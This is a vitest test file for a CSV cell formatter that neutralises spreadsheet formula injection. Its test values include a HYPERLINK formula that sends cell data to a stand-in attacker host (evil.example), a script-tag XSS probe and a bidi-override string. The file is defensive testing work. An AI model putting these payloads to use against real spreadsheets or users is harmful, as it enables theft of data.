// The CSV cell rules, checked against a parser nobody here wrote (csv-parse), and the fast per-column
// formatter (used for large exports) held to the reference one value by value.
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { textCell, formatCsvCell, formatCsvRow, neutraliseFormula, restoreNeutralised } from '../../../electron/core/exports/csv/cell.js';

const NASTY: string[] = [
  '=1+1',
  '+SUM(A1:A9)',
  '-2+3',
  '@SUM(1)',
  '\t=cmd',
  '\r=cmd',
  "'already quoted",
  "'=both",
  '\uFF1D1+1',
  '=HYPERLINK("http://evil.example/?q="&A1,"click")',
  'plain, with comma',
  'line\nbreak',
  'crlf\r\nbreak',
  'quote " inside',
  '""',
  '',
  ' leading space',
  '<script>alert(1)</script>',
  '\u202Eevil\u202C',
  'zero\u200Bwidth\u200D',
  'emoji 👩‍⚕️💉',
  'e\u0301\u0302 combining',
  'x'.repeat(10_000),
  'ünïcödé ß 日本語',
];

describe('formatCsvCell', () => {
  it('neutralises every formula trigger and only those', () => {
    for (const t of ['=', '+', '-', '@', '\t', '\r', "'"]) expect(neutraliseFormula(`${t}x`)).toBe(`'${t}x`);
    expect(neutraliseFormula('a=b')).toBe('a=b');
    expect(neutraliseFormula('')).toBe('');
    expect(formatCsvCell('=1+1', 'text')).toBe(`"'=1+1"`);
  });

  it('writes a negative number as a number, and negative-looking text as neutralised text', () => {
    expect(formatCsvCell(-12, 'number')).toBe('-12');
    expect(formatCsvCell('-12', 'text')).toBe(`"'-12"`);
    expect(formatCsvCell(12n, 'number')).toBe('12');
  });

  it('tells NULL (empty field) from the empty string ("")', () => {
    expect(formatCsvCell(null, 'text')).toBe('');
    expect(formatCsvCell('', 'text')).toBe('""');
  });

  it('refuses a non-finite number', () => {
    // A programming guard (a TypeError, no code): its words are what there is to match.
    expect(() => formatCsvCell(Number.NaN, 'number')).toThrow(/NaN/);
  });

  it('round-trips every nasty value through csv-parse', () => {
    const csv = NASTY.map((v, i) => formatCsvRow([i, v, -i], ['number', 'text', 'number'])).join('');
    const rows = parse(csv, { relax_column_count: false }) as string[][];
    expect(rows).toHaveLength(NASTY.length);
    rows.forEach((r, i) => {
      expect(r).toHaveLength(3);
      expect(Number(r[0])).toBe(i);
      expect(restoreNeutralised(r[1]!)).toBe(NASTY[i]);
      expect(Number(r[2])).toBe(i === 0 ? 0 : -i);
      // Inert: no parsed text cell starts a formula.
      expect(r[1]!).not.toMatch(/^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/);
    });
  });
});

describe('textCell (the hot path of the shot CSV)', () => {
  it('gives exactly what formatCsvCell gives a text cell, for every nasty value', () => {
    for (const v of [...NASTY, '', "'", '""', '-12']) expect(textCell(v)).toBe(formatCsvCell(v, 'text'));
  });
});
